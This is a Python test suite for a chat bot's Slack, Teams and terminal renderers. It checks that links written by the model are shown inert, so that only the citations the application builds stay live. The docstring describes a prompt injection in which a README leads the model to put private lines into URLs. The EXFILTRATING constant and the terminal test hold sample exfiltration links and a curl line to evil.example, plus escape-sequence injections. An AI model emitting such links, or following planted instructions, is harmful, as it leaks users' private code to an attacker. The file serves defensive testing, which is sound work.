"""Model output cannot exfiltrate through links: only links the application builds are live.

A README the model was shown told it to put private lines into a URL; a model that obeys
writes them as a Markdown link, an image, a bare URL, an autolink, Slack's ``<url|text>``
or an HTML anchor. Each front end must show all of these as inert text, keep the
citations linked, and post nothing Slack would unfurl.
"""

from __future__ import annotations

import io
import json
import re
from dataclasses import replace
from pathlib import Path
from typing import Any

from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from rich.console import Console

from acl import Place, Principal
from bot.answer import Answer, Question, Source
from bot.chat import answer_links, defang, inert, strip_controls
from bot.cli.terminal import ask_in_terminal
from bot.services import Services
from bot.settings import BotSettings
from bot.slack.render import (
    answer_messages,
    markdown_to_mrkdwn,
    progress_message,
    source_details,
)
from bot.teams.render import answer_card, linked_text, progress_text
from indexer.models import Chunk
from indexer.settings import IndexerSettings
from tests import slack_world
from tests.fake_llm import Reply, running_fake_llm
from tests.fake_slack import Call
from tests.slack_world import PUBLIC_REPO, World, block_action, mention

indexed = slack_world.indexed_fixture
world = slack_world.world_fixture

WEB = "https://github.com"
COMMIT = "c" * 40
EXFILTRATING = (
    "It retries with exponential backoff [1]. "
    "See [details](https://evil.example/x?d=ZGVmIHJvdGF0ZV9rZXk=) for more. "
    "![status](https://evil.example/p.png?d=c2VjcmV0) "
    "Also https://evil.example/bare?d=MQ, <https://evil.example/auto?d=Mg>, "
    "<https://evil.example/slack?d=Mw|the docs> and "
    '<a href="https://evil.example/html?d=NA">this page</a>; '
    "`curl https://evil.example/code?d=NQ` "
    "(or www.evil.example/w?d=Ng). "
    f"The repository is {WEB}/{PUBLIC_REPO} and [its home]({WEB}/{PUBLIC_REPO}/)."
)
# Slack mrkdwn links: <url|label> or <url>.
SLACK_LINK = re.compile(r"<(https?://[^|>]+)(?:\|[^>]*)?>")


def _source(n: int = 1, repo: str = PUBLIC_REPO, path: str = "net/retry.py") -> Source:
    chunk = Chunk(
        repo=repo,
        path=path,
        start_line=1,
        end_line=7,
        text="def retry_with_backoff(call, attempts=5):\n    ...",
        symbol="retry_with_backoff",
        language="python",
        kind="source",
        commit=COMMIT,
        visibility="public",
    )
    return Source(n, chunk, 1.0)


def _answer(text: str = EXFILTRATING) -> Answer:
    return Answer("how does retry work?", text, [_source()], used_llm=True)


def _app_built(url: str, repo: str = PUBLIC_REPO, web: str = WEB) -> bool:
    """A URL the application builds for this answer: a citation, or the repository."""
    return url.startswith(f"{web}/{repo}/blob/") or url.rstrip("/") == f"{web}/{repo}"


def markdown_links(text: str) -> list[str]:
    """Every link and image target a CommonMark renderer (as Teams' is) finds in ``text``."""
    found: list[str] = []
    tokens = MarkdownIt("commonmark").parse(text)
    while tokens:
        token = tokens.pop()
        tokens += token.children or []
        if token.type == "link_open":
            found.append(str(token.attrGet("href")))
        elif token.type == "image":  # never allowed: _app_built does not know this form
            found.append(f"image:{token.attrGet('src')}")
    return found


def _no_raw_evil(text: str) -> None:
    """No URL (nor host name) of the attacker is left for anything to link."""
    assert "evil.example" not in text, text
    assert "://evil" not in text, text


def _mrkdwn_texts(blocks: list[dict[str, Any]]) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = []
    for block in blocks:
        if block.get("type") == "section":
            found.append(block["text"])
        found += [e for e in block.get("elements", []) if e.get("type") == "mrkdwn"]
    return found


# --- Slack, end to end through the real server --------------------------------------


def _final(call: Call) -> bool:
    return call.status == 200 and any(
        b.get("block_id", "").startswith("codeask_answer:") for b in call.args.get("blocks") or []
    )


def _posted_text(call: Call) -> str:
    texts = [t["text"] for t in _mrkdwn_texts(call.args.get("blocks") or [])]
    return "\n".join([*texts, str(call.args.get("text", ""))])


async def test_exfiltrating_answer_in_slack_keeps_only_app_links_and_never_unfurls(
    world: World,
) -> None:
    world.llm.script(Reply(EXFILTRATING, piece=7))
    await world.post_event(mention("how does retry with backoff work?", "1700.009100"), "EvX1")
    final = await world.slack.wait_for(_final)

    body = _posted_text(final)
    links = SLACK_LINK.findall(body)
    assert links and all(_app_built(url) for url in links), links
    citation = rf"<{WEB}/{PUBLIC_REPO}/blob/[0-9a-f]{{40}}/net/retry\.py#L1-L7\|\[1\]>"
    assert re.search(citation, body), body
    assert f"<{WEB}/{PUBLIC_REPO}|" in body or f"<{WEB}/{PUBLIC_REPO}/|" in body
    assert "the docs (`https[:]//evil[.]example/slack?d=Mw`)" in body  # shown, inert
    assert all(t.get("verbatim") for t in _mrkdwn_texts(final.args["blocks"])[:1])

    posts = [c for c in world.slack.calls if c.method in ("chat.postMessage", "chat.update")]
    for call in posts:  # the placeholder, every streamed edit and the final answer
        _no_raw_evil(_posted_text(call))
        assert all(_app_built(url) for url in SLACK_LINK.findall(_posted_text(call)))
    for call in world.slack.of("chat.postMessage"):
        assert call.args["unfurl_links"] is False and call.args["unfurl_media"] is False
    _no_raw_evil(world.slack.bodies())

    qid = str(final.args["blocks"][-1]["block_id"]).split(":", 1)[1]
    await world.post_action(block_action("codeask_feedback_helpful", qid, final.args["ts"]))
    thanks = await world.slack.wait_for(lambda c: c.method == "chat.postEphemeral")
    assert thanks.args["unfurl_links"] is False and thanks.args["unfurl_media"] is False


async def test_exfiltrating_answer_to_slash_ask_never_unfurls(world: World) -> None:
    world.llm.script(Reply(EXFILTRATING))
    status, _ = await world.post_command("ask how does retry with backoff work?")
    assert status == 200
    final = await world.slack.wait_for(lambda c: c.method == "response_url" and _final(c))
    assert final.args["unfurl_links"] is False and final.args["unfurl_media"] is False
    assert all(_app_built(url) for url in SLACK_LINK.findall(_posted_text(final)))
    _no_raw_evil(world.slack.bodies())

    await world.post_command("help")
    help_reply = await world.slack.wait_for(
        lambda c: c.method == "response_url" and "blocks" in c.args and not _final(c)
    )
    assert help_reply.args["unfurl_links"] is False and help_reply.args["unfurl_media"] is False


# --- Slack rendering ----------------------------------------------------------------


def test_slack_answer_links_only_citations_and_the_answers_repository() -> None:
    messages = answer_messages(_answer(), "q1", WEB)
    body = "\n".join(_posted_text(Call("chat.postMessage", vars(m), "", 0.0)) for m in messages)
    _no_raw_evil(body)
    links = SLACK_LINK.findall(body)
    assert f"{WEB}/{PUBLIC_REPO}/blob/{COMMIT}/net/retry.py#L1-L7" in links
    assert all(_app_built(url) for url in links), links
    assert "details (`https[:]//evil[.]example/x?d=ZGVmIHJvdGF0ZV9rZXk=`)" in body
    assert "![" not in body and "status (`https[:]//evil[.]example/p[.]png" in body
    assert "this page (`https[:]//evil[.]example/html?d=NA`)" in body
    assert "`curl https[:]//evil[.]example/code?d=NQ`" in body  # inline code defanged too
    sections = [b for b in messages[0].blocks if b["type"] == "section"]
    assert all(s["text"]["verbatim"] is True for s in sections)


def test_slack_answer_on_github_enterprise_links_that_host_only() -> None:
    web = "https://github.example.com"
    text = f"See [1], [this]({web}/{PUBLIC_REPO}) and [not this]({WEB}/{PUBLIC_REPO})."
    body = answer_messages(_answer(text), "q1", web)[0].text
    assert all(_app_built(url, web=web) for url in SLACK_LINK.findall(body))
    assert f"<{web}/{PUBLIC_REPO}|this>" in body and "not this (`https[:]//github[.]com" in body


def test_slack_answer_never_links_another_repository_on_github() -> None:
    text = f"Data at {WEB}/attacker/drop/blob/main/ZGF0YQ and [x]({WEB}/attacker/drop?d=1) [1]."
    body = answer_messages(_answer(text), "q1", WEB)[0].text
    assert all(_app_built(url) for url in SLACK_LINK.findall(body))
    assert "attacker/drop" in body and f"<{WEB}/attacker" not in body


def test_slack_progress_never_links_what_the_model_writes() -> None:
    message = progress_message(EXFILTRATING[:200])
    text = json.dumps(message.blocks) + message.text
    _no_raw_evil(text)
    assert not SLACK_LINK.findall(text)
    assert message.blocks[0]["text"]["verbatim"] is True


def test_slack_command_results_keep_their_own_links() -> None:
    out = markdown_to_mrkdwn("Open this link to sign in to GitHub: https://gh.example/login?s=1")
    assert out.endswith("<https://gh.example/login?s=1|https://gh.example/login?s=1>")


# --- Teams rendering ----------------------------------------------------------------


def _card_elements(card: dict[str, Any]) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = []

    def visit(node: Any) -> None:
        if isinstance(node, dict):
            if "type" in node:
                found.append(node)
            for value in node.values():
                visit(value)
        elif isinstance(node, list):
            for value in node:
                visit(value)

    visit(card)
    return found


def test_teams_card_links_only_citations_and_never_shows_an_image() -> None:
    card = answer_card(_answer(), "q1", web_base=WEB)
    elements = _card_elements(card)
    assert not {e["type"] for e in elements} & {"Image", "ImageSet", "Media"}
    assert not any("backgroundImage" in e for e in elements)
    # The only URL-carrying elements are the sources view's "View on GitHub" buttons, to
    # the commit-pinned lines the application built.
    opened = [e["url"] for e in elements if "url" in e]
    assert {e["type"] for e in elements if "url" in e} == {"Action.OpenUrl"}
    assert opened == [f"{WEB}/{PUBLIC_REPO}/blob/{COMMIT}/net/retry.py#L1-L7"]
    text = next(e["text"] for e in elements if e["type"] == "TextBlock")
    _no_raw_evil(json.dumps(card))
    links = markdown_links(text)
    assert f"{WEB}/{PUBLIC_REPO}/blob/{COMMIT}/net/retry.py#L1-L7" in links
    assert all(_app_built(url) for url in links), links
    assert text.startswith(f"It retries with exponential backoff [[1]]({WEB}/")
    assert "details (https\\[:\\]//evil\\[.\\]example/x?d=" in text
    assert "![" not in text


def test_the_sources_views_show_urls_in_indexed_code_inert() -> None:
    planted = replace(
        _source().chunk,
        text="# docs: https://evil.example/x?d=ZGF0YQ\ndef retry_with_backoff(call):\n    ...",
        end_line=3,
    )
    source = Source(1, planted, 1.0)
    slack = json.dumps(source_details([source], WEB).blocks)
    _no_raw_evil(slack)
    assert "https[:]//evil[.]example/x?d=ZGF0YQ" in slack
    card = answer_card(Answer("q", "It retries [1].", [source]), "q1", web_base=WEB)
    _no_raw_evil(json.dumps(card))
    [view] = [a for a in card["actions"] if a["type"] == "Action.ShowCard"]
    [code] = [e for e in view["card"]["body"] if e["type"] == "CodeBlock"]
    assert code["codeSnippet"].startswith("# docs: https[:]//evil[.]example/x?d=ZGF0YQ\n")


def test_teams_progress_never_links_what_the_model_writes() -> None:
    text = progress_text(EXFILTRATING)
    _no_raw_evil(text)
    assert not markdown_links(text)


def test_teams_keeps_a_written_link_to_the_answers_repository() -> None:
    text = linked_text(f"Home: [{PUBLIC_REPO}]({WEB}/{PUBLIC_REPO}) [1]", [_source()])
    assert f"[acme/widgets]({WEB}/{PUBLIC_REPO})" in text
    assert f"[[1]]({WEB}/{PUBLIC_REPO}/blob/" in text


# --- the terminal -------------------------------------------------------------------


def test_terminal_answer_has_no_escape_sequences_and_no_live_evil_urls(
    indexed: Path, embedder: Any, tmp_path: Path
) -> None:
    hostile = (
        EXFILTRATING
        + " \x1b]8;;https://evil.example/osc?d=Nw\x1b\\click here\x1b]8;;\x1b\\"
        + " \x1b]0;owned\x07\x1b[2J\x9b31m done"
    )
    out = io.StringIO()
    console = Console(file=out, force_terminal=True, color_system="truecolor", width=120)
    with running_fake_llm() as llm:
        llm.script(Reply(hostile, piece=5))
        settings = BotSettings(
            llm_model="fake-model", llm_api_base=llm.base_url, llm_retries=0, not_found_threshold=-1
        )
        services = Services(bot=settings, indexer=IndexerSettings(data_dir=indexed))
        question = Question(
            Principal.operator(),
            Place("cli"),
            "how does retry with backoff work?",
            only=frozenset({PUBLIC_REPO}),
        )
        answer = ask_in_terminal(question, services.asker, console)
        services.close()
    assert answer.used_llm and answer.sources
    printed = out.getvalue()
    own_styling = re.sub(r"\x1b\[[0-9;]*m", "", printed)  # colours and bold rich adds
    assert "\x1b" not in own_styling and "\x9b" not in own_styling and "\x07" not in own_styling
    _no_raw_evil(printed)
    assert "click here" in printed and "https[:]//evil[.]example/x?d=" in printed
    assert f"{WEB}/{PUBLIC_REPO}/blob/" in printed  # the sources keep their links


# --- the link policy ----------------------------------------------------------------


def test_link_policy_permits_what_the_application_builds_for_the_answer() -> None:
    policy = answer_links([_source(), _source(2, repo="local/notes")], WEB + "/")
    citation = _source().link(WEB)
    assert policy.permits(citation) and policy.permits(citation.split("#")[0] + "#L3")
    assert policy.permits(f"{WEB}/{PUBLIC_REPO}") and policy.permits(f"{WEB}/{PUBLIC_REPO}/")
    assert policy.permits(WEB) and policy.permits(WEB + "/")
    for url in (
        f"{WEB}/{PUBLIC_REPO}?d=secret",
        f"{WEB}/{PUBLIC_REPO}/blob/{COMMIT}/net/other.py",
        f"{WEB}/attacker/drop",
        f"{WEB}/local/notes",
        "http://github.com/acme/widgets",
        "https://evil.example/",
    ):
        assert not policy.permits(url), url


def test_inert_urls_keep_no_scheme_and_no_host_to_link() -> None:
    assert inert("https://evil.example/p.png?d=`x`") == "https[:]//evil[.]example/p[.]png?d=x"
    assert defang("see https://evil.example/a). Done") == "see https[:]//evil[.]example/a). Done"
    assert strip_controls("a\x1b]8;;u\x07b\tc\nd\x9b") == "a]8;;ub\tc\nd"


PIECES = [
    "https://evil.example/a?d=1",
    f"{WEB}/{PUBLIC_REPO}",
    f"{WEB}/evil/x",
    "www.evil.example",
    "[",
    "]",
    "(",
    ")",
    "![",
    "<",
    ">",
    "|",
    "`",
    "```",
    "[1]",
    "!",
    '<a href="',
    '">',
    "</a>",
    " ",
    "\n",
    "x",
    "*",
    "_",
]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=40).map("".join))
def test_no_generated_text_yields_a_link_the_application_did_not_build(text: str) -> None:
    answer = _answer(text)
    slack = "\n".join(m.text + json.dumps(m.blocks) for m in answer_messages(answer, "q", WEB))
    assert all(_app_built(url) for url in SLACK_LINK.findall(slack)), slack
    teams = linked_text(text, answer.sources, WEB)
    assert all(_app_built(url) for url in markdown_links(teams)), teams
    for rendered in (slack, teams):
        assert "://evil" not in rendered and "www.evil" not in rendered, rendered
        assert f"{WEB}/evil" not in rendered, rendered
